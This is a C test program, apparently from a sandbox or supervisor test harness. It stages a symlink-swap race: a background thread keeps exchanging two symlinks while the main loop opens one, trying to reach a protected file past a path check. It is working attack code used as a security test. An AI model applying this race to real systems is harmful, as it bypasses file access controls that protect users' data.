/* Attack: a symlink swapped during the call. A second thread exchanges two symlinks in the
 * allowed directory (renameat2 RENAME_EXCHANGE, atomic) while the first opens one of them:
 * one leads to the allowed file, the other to the protected one. A supervisor that checks
 * the name and lets the kernel open it again would open the swapped one. */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <unistd.h>

#include "attack.h"

static atomic_bool stop;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		renameat2(AT_FDCWD, atk_path("pub/s1"), AT_FDCWD, atk_path("pub/s2"),
			  RENAME_EXCHANGE);
	return NULL;
}

int main(int argc, char **argv)
{
	atk_init(argc, argv);
	int flags = A.write ? O_WRONLY : O_RDONLY;
	unlink(atk_path("pub/s1"));
	unlink(atk_path("pub/s2"));
	if (symlink("f", atk_path("pub/s1")) < 0 || symlink("../sec/f", atk_path("pub/s2")) < 0)
		atk_cannot("symlinks in the allowed directory");
	pthread_t t;
	pthread_create(&t, NULL, swapper, NULL);
	long opened = 0;
	while (atk_more()) {
		int fd = open(atk_path("pub/s1"), flags);
		opened += fd >= 0;
		atk_fd(fd, "swapped symlink");
	}
	stop = true;
	pthread_join(t, NULL);
	printf("opened=%ld\n", opened);
	return atk_done();
}
